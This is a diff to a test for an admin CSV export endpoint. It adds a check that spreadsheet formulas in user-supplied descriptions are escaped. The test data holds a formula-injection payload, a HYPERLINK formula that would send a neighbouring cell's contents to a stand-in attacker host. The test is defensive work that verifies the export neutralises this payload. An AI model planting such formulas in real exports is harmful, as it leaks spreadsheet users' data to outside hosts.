@@ -152,6 +152,7 @@ it('"Invite the next N" shows who first, then invites exactly those through the 
 
 it("exports the CLI's CSV as a download, and records how many rows went out", async () => {
   for (let i = 0; i < 3; i++) await store.signups.add({ email: `row${i}@example.org`, description: 'a, "quoted" note' });
+  await store.signups.add({ email: 'formula@example.org', description: '=HYPERLINK("https://evil.example/?"&A2,"ok")' });
   const res = await get('/admin/signups/export');
   expect(res.status).toBe(200);
   expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -159,5 +160,7 @@ it("exports the CLI's CSV as a download, and records how many rows went out", as
   const lines = res.text.split('\r\n');
   expect(lines[0]).toBe('email,description,created_at,invited_at,activated_at,confirmed_at,state');
   expect(lines.filter((line) => line.includes('"a, ""quoted"" note"'))).toHaveLength(3);
-  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({ action: 'export', addresses: 3 });
+  // Opened in a spreadsheet, this description is text, not a formula.
+  expect(lines.find((line) => line.startsWith('formula@'))).toMatch(/^formula@example\.org,"'=HYPERLINK\(""https/);
+  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({ action: 'export', addresses: 4 });
 });
